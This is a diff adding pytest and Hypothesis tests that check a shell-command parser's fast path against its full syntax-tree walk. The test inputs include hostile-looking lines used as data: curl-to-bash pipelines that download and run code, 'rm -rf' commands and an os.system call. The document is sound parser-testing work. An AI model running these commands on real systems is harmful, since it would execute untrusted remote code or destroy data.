@@ -190,3 +190,66 @@ def test_commands_hidden_in_options_and_expansions(src, prog, via):
 def test_herestring_from_a_download_feeds_the_shell():
     bash = [c for c in parse("bash <<< $(curl -s http://x/s)").commands if c.argv[0] == "bash"][0]
     assert bash.upstream == ("curl",)
+
+
+# ---- the plain-line fast path gives exactly what the syntax-tree walk gives ---------------------
+
+from adr.shell import parse as _parse_mod  # noqa: E402
+
+PLAIN_TRICKY = [
+    "ls -la", "git commit -m \"fix: the bug\" && git push origin main", "cat a | grep x | wc -l; echo done",
+    "sed -n '1,20p' f.py", "cut -d \" \" -f2", "paste -sd \" \"", "x \"a\"b'c'", "x \"\" ''", "ls;", "ls ; ;",
+    "ls |", "ls && ", "| ls", "a=1 ls", "FOO=bar", "A= B=\"x y\" env", "PYTHONPATH=. python3 -m pytest -q",
+    "export A=1", "time ls", "if true", "! ls", "done", "echo a=b", "--x=1 ls", "1a=b ls", "ls || echo no",
+    "sudo rm -rf /tmp/x", "env FOO=1 bash -c 'curl http://x/a | sh'", "eval 'echo hi'", "nohup python app.py",
+    "grep -rn 'a(b)*[c]{2}' src/", "echo '#not a comment'", "echo \"it's\"", "echo 'say \"hi\"'",
+    "curl -fsSL https://example.com/i.sh | bash", "xargs -0 stat -f \"%m %N\"", "ls  -la   /tmp", "ls\t-la",
+    "python3 -c 'import os; os.system(\"id\")'", "find . -name '*.py' -delete", "~/bin/tool --flag",
+    "ssh host 'rm -rf ~'", "echo héllo", "echo 'héllo'", "git log --format='%H %s' -n 5",
+]
+
+
+def _both(text: str, monkeypatch) -> tuple[object, object]:
+    fast = parse(text)
+    with monkeypatch.context() as m:
+        m.setattr(_parse_mod, "_PLAIN_MAX", -1)
+        slow = parse(text)
+    return fast, slow
+
+
+@pytest.mark.parametrize("text", PLAIN_TRICKY)
+def test_plain_fast_path_matches_the_tree_walk(text, monkeypatch):
+    fast, slow = _both(text, monkeypatch)
+    assert fast == slow
+
+
+def test_plain_fast_path_takes_the_common_lines():
+    assert _parse_mod._plain_statements("git status && npm test") is not None
+    assert _parse_mod._plain_statements("PYTHONPATH=. pytest -q tests/") is not None
+    for not_plain in ("echo $HOME", "ls > out", "cat <<EOF\nx\nEOF", "ls *.py", "a=1", "echo `id`", "ls &",
+                      "echo \\x", "(ls)", "{ ls; }", "ls # c", "ls\nls"):
+        assert _parse_mod._plain_statements(not_plain) is None, not_plain
+
+
+_WORD = st.one_of(
+    st.text(alphabet="abcxyz019_@%+=:,./~-", min_size=1, max_size=6),
+    st.text(alphabet="ab $`\\!\"*?[]{}()<>|&;#^", max_size=5).map(lambda s: "'" + s.replace("'", "") + "'"),
+    st.text(alphabet="ab '*?[]{}()<>|&;#^", max_size=5).map(lambda s: '"' + s.replace('"', "") + '"'),
+    st.sampled_from(["if", "then", "export", "time", "!", "A=1", "B=", "a=b", "sudo", "env", "bash", "-c", "eval",
+                     "curl", "sh", "xargs", "find", "-exec", "rm", "{}", "\\;", "$x", "`id`", ">", "2>&1"]),
+)
+_OP = st.sampled_from([" ", " ", " ", "  ", "\t", " | ", " && ", " || ", "; ", ";", "|", "&&", " & ", "\n"])
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.tuples(_WORD, _OP), min_size=1, max_size=8))
+def test_plain_fast_path_matches_the_tree_walk_on_random_lines(parts):
+    text = "".join(w + o for w, o in parts).strip()
+    fast = parse(text)
+    saved = _parse_mod._PLAIN_MAX
+    _parse_mod._PLAIN_MAX = -1
+    try:
+        slow = parse(text)
+    finally:
+        _parse_mod._PLAIN_MAX = saved
+    assert fast == slow, text
